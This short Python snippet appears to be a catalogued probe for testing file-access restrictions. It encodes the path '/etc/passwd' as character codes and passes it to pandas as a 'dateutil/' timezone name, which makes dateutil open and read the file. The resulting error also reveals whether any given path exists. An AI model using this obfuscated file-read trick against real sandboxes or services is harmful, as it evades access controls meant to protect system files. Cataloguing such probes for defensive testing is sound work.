# source: dateutil.tz.gettz docs (an absolute name is opened as a TZif file); pandas maps tz strings "dateutil/<name>" to dateutil.tz.gettz(name) (pandas/_libs/tslibs/timezones.pyx)
# family: file read by a path computed at run time through a timezone name (no path-taking API is called)
# goal: opens and reads /etc/passwd (header check -> "magic not found") and acts as an existence oracle for any path; WEAK evidence: no content beyond the 4-byte header check
import pandas as pd

path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
for name in ["dateutil/" + path, "dateutil/" + path + "-missing"]:
    try:
        print(name, "->", pd.Timestamp("2020-01-01", tz=name))
    except ValueError as e:
        print(name, "-> opened and read:", e)
